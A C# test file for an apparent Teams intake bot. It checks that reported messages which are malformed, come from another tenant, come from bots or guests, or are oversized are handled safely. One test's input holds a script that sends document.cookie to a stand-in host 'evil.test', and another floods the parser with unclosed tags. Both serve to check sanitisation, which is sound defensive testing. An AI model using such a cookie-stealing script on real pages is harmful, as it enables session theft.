using System.Net;
using IntakeBot.Tests.Infrastructure;
using Newtonsoft.Json.Linq;

namespace IntakeBot.Tests.Capture;

/// <summary>Odd and hostile message actions: each gets a clear answer, and nothing is kept by mistake.</summary>
public sealed class ReportMessageInputTests(AzuriteFixture azurite) : IClassFixture<AzuriteFixture>
{
    private const string OtherTenant = "0d9c1a55-7e3b-4f0e-8c2a-6b1d9e4f3a21";

    [Theory]
    [InlineData("no body", "That message has no text or files I can keep")]
    [InlineData("unknown command", "I don't know that action")]
    [InlineData("no message", "That message has no text or files I can keep")]
    [InlineData("no identity", "I couldn't tell which account used this action")]
    [InlineData("object body", "That message has no text or files I can keep")]
    public async Task A_message_action_that_cannot_be_kept_says_why_and_keeps_nothing(string how, string answer)
    {
        await using var connector = await ConnectorStub.StartAsync();
        await using var app = new BotApp(azurite);
        var person = Guid.NewGuid().ToString();
        var invoke = JObject.Parse(MessageAction.Invoke(person, MessageAction.Payload(Guid.NewGuid().ToString(), "<p>hello</p>"), connector.ServiceUrl, commandId: how == "unknown command" ? "shareMessage" : "reportMessage"));
        switch (how)
        {
            case "no body":
                ((JObject)invoke["value"]!["messagePayload"]!).Remove("body");
                break;
            case "no message":
                ((JObject)invoke["value"]!).Remove("messagePayload");
                break;
            case "no identity":
                ((JObject)invoke["from"]!).Remove("aadObjectId");
                break;
            case "object body":
                invoke["value"]!["messagePayload"]!["body"]!["content"] = new JObject { ["text"] = "hello" };
                break;
        }

        var response = await ApiMessages.PostAsync(app.CreateClient(), invoke.ToString());

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.StartsWith(answer, JObject.Parse(await response.Content.ReadAsStringAsync())["task"]!.Value<string>("value"), StringComparison.Ordinal);
        Assert.Empty(connector.CreatedConversations);
        Assert.Empty(connector.Sent);
        var blobs = new CaseBlobs(azurite, app);
        Assert.Empty(await blobs.CaseBlobNamesAsync());
        Assert.Equal(0, await blobs.StateBlobCountAsync());
    }

    [Fact]
    public async Task The_action_used_from_another_tenant_is_refused_before_anything_is_read_or_kept()
    {
        await using var connector = await ConnectorStub.StartAsync();
        await using var app = new BotApp(azurite, new Dictionary<string, string?> { ["Teams:AllowedTenantIds:0"] = HttpChat.TenantId });
        var invoke = JObject.Parse(MessageAction.Invoke(Guid.NewGuid().ToString(), MessageAction.Payload(Guid.NewGuid().ToString(), "<p>hello</p>"), connector.ServiceUrl));
        invoke["conversation"]!["tenantId"] = OtherTenant;
        invoke["channelData"]!["tenant"]!["id"] = OtherTenant;

        var response = await ApiMessages.PostAsync(app.CreateClient(), invoke.ToString());

        Assert.NotEqual(HttpStatusCode.OK, response.StatusCode);
        Assert.DoesNotContain("Kept", await response.Content.ReadAsStringAsync(), StringComparison.Ordinal);
        Assert.Empty(connector.CreatedConversations);
        var blobs = new CaseBlobs(azurite, app);
        Assert.Empty(await blobs.CaseBlobNamesAsync());
        Assert.Equal(0, await blobs.StateBlobCountAsync());
    }

    [Fact]
    public async Task A_100_KB_message_with_scripts_and_styles_is_kept_as_text_and_its_html_kept_unrendered()
    {
        var filler = string.Concat(Enumerable.Repeat("<p>and then more of the same words</p>", 2700));
        var html = $"<style>body{{display:none}}</style><script>document.location='https://evil.test/'+document.cookie</script><p>First line</p>{filler}";
        Assert.True(html.Length > 100 * 1024);

        var (item, kept) = await KeptThroughAReportAsync(MessageAction.Payload(Guid.NewGuid().ToString(), html));

        var text = kept.Value<string>("text")!;
        Assert.StartsWith("First line\nand then more of the same words", text, StringComparison.Ordinal);
        Assert.DoesNotContain("document", text, StringComparison.Ordinal);
        Assert.DoesNotContain("display", text, StringComparison.Ordinal);
        Assert.DoesNotContain("<", text, StringComparison.Ordinal);
        Assert.Equal(html, kept.Value<string>("html"));
        Assert.Equal("application/json", item.ContentType);
    }

    [Fact]
    public async Task A_message_from_a_bot_is_kept_with_the_bot_as_its_sender_and_no_person_id()
    {
        var payload = MessageAction.Payload(Guid.NewGuid().ToString(), "<p>Reminder: you are on the list</p>");
        payload["from"] = new JObject { ["user"] = null, ["application"] = new JObject { ["id"] = "28:someotherbot", ["displayName"] = "Standup Bot", ["applicationIdentityType"] = "bot" } };

        var (item, kept) = await KeptThroughAReportAsync(payload);

        Assert.Equal("application", item.Message!.SenderIdentityType);
        Assert.Equal("Standup Bot", item.Message.SenderName);
        Assert.Null(item.Message.SenderObjectId);
        Assert.Null(kept["sender"]!.Value<string>("objectId"));
    }

    [Fact]
    public async Task A_message_whose_sender_has_no_entra_id_is_kept_with_the_name_and_identity_type_teams_gave()
    {
        var payload = MessageAction.Payload(Guid.NewGuid().ToString(), "<p>from outside</p>");
        payload["from"]!["user"] = new JObject { ["id"] = "8:orgid:not-a-guid", ["displayName"] = "Guest Visitor", ["userIdentityType"] = "anonymousGuest" };

        var (item, _) = await KeptThroughAReportAsync(payload);

        Assert.Equal("anonymousGuest", item.Message!.SenderIdentityType);
        Assert.Equal("Guest Visitor", item.Message.SenderName);
        Assert.Null(item.Message.SenderObjectId);
    }

    /// <summary>Keeps the message, starts a report with it, and reads the draft's one evidence item
    /// and its blob.</summary>
    private async Task<(IntakeBot.Cases.EvidenceItem Item, JObject Kept)> KeptThroughAReportAsync(JObject payload)
    {
        await using var connector = await ConnectorStub.StartAsync();
        await using var app = new BotApp(azurite);
        var person = Guid.NewGuid().ToString();
        var response = await ApiMessages.PostAsync(app.CreateClient(), MessageAction.Invoke(person, payload, connector.ServiceUrl, conversationType: "channel"));
        Assert.StartsWith("Kept privately.", JObject.Parse(await response.Content.ReadAsStringAsync())["task"]!.Value<string>("value"), StringComparison.Ordinal);
        var chat = new HttpChat(app.CreateClient(), person, connector.ServiceUrl, connector.PrivateChatOf(person));
        await chat.SayAsync("Start a report with it");

        var blobs = new CaseBlobs(azurite, app);
        var item = Assert.Single((await blobs.DraftAsync()).Evidence);
        Assert.Equal("channel", item.Message!.ConversationKind);
        var content = (await blobs.Cases.GetBlobClient(item.BlobName).DownloadContentAsync()).Value.Content.ToString();
        return (item, JObject.Parse(content));
    }

    [Fact]
    public async Task A_message_of_thousands_of_unclosed_tags_is_kept_in_private_and_nothing_is_posted_in_the_group()
    {
        await using var connector = await ConnectorStub.StartAsync();
        await using var app = new BotApp(azurite);
        var person = Guid.NewGuid().ToString();
        var group = $"19:group-{Guid.NewGuid():N}@thread.v2";
        var html = "<p>watch yourself</p>" + string.Concat(Enumerable.Repeat("<a", 200_000));

        var response = await ApiMessages.PostAsync(app.CreateClient(), MessageAction.Invoke(person, MessageAction.Payload(Guid.NewGuid().ToString(), html), connector.ServiceUrl, conversationId: group));

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.StartsWith("Kept privately.", JObject.Parse(await response.Content.ReadAsStringAsync())["task"]!.Value<string>("value"), StringComparison.Ordinal);
        Assert.Single(connector.Sent, s => s.ConversationId == connector.PrivateChatOf(person));
        Assert.DoesNotContain(connector.Sent, s => s.ConversationId == group);
    }
}
